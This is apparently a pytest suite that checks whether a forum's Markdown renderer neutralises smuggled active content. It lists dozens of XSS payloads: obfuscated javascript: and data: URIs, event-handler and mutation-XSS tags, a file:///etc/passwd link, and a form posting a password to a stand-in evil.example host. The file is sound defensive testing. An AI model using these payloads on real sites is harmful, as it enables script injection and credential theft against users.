"""Ways to smuggle active content through Markdown, none of which may arrive."""

import pytest

from forum.markdown import render
from tests.forum.reading import parsed

LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript:https://example.org",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "filesystem:https://example.org/x",
    "view-source:https://example.org",
    "about:blank",
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "http:///evil.example",
    "tel:112",
    "ms-msdt:/id",
    "%6aavascript:alert(1)",
    "feed:javascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "ｊavascript:alert(1)",
]
SHAPES = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "![x][r]\n\n[r]: <{}>"]

TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/who.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "</p></div></body><script>alert(1)</script>",
    "<plaintext><xmp><listing>",
    "<a href='javascript:alert(1)' onclick=alert(1) style='position:fixed'>x</a>",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/ \"t' onmouseover='alert(1)\")",
    "[x](https://a.example/ '\"><script>alert(1)</script>')",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[<img src=x onerror=alert(1)>](https://a.example/)",
    "<https://a.example/\"onclick='alert(1)'>",
    "<https://a.example/<script>alert(1)</script>>",
    '```"><script>alert(1)</script>\nkod\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|--:|\n| ` ` <svg/onload=alert(1)> |",
    "# <script>alert(1)</script>\n\n1. <iframe src=//evil.example>",
    "*<b onmouseover=alert(1)>*",
    "[a]: https://a.example/ '</p><script>alert(1)</script>'\n\n[a]",
    "\\<script>alert(1)\\</script>",
    "<script\x00>alert(1)</script>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "[[x](javascript:alert(1))](https://a.example/)",
    "[x](javascript:alert(1) https://a.example/)",
    "{{ 7 * 7 }} ${alert(1)} <%= 1 %>",
]


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("address", LINKS)
def test_an_address_that_acts_never_becomes_one(address, shape):
    page = parsed(render(shape.format(address))).must_be_harmless()
    assert not page.links


@pytest.mark.parametrize("source", TEXTS)
def test_a_text_that_acts_arrives_as_text(source):
    parsed(render(source)).must_be_harmless()


@pytest.mark.parametrize("source", TEXTS)
def test_a_text_that_acts_is_harmless_when_quoted_or_repeated_too(source):
    quoted = "\n".join(f"> {line}" for line in source.splitlines())
    parsed(render(f"{quoted}\n\n- {source} {source}")).must_be_harmless()
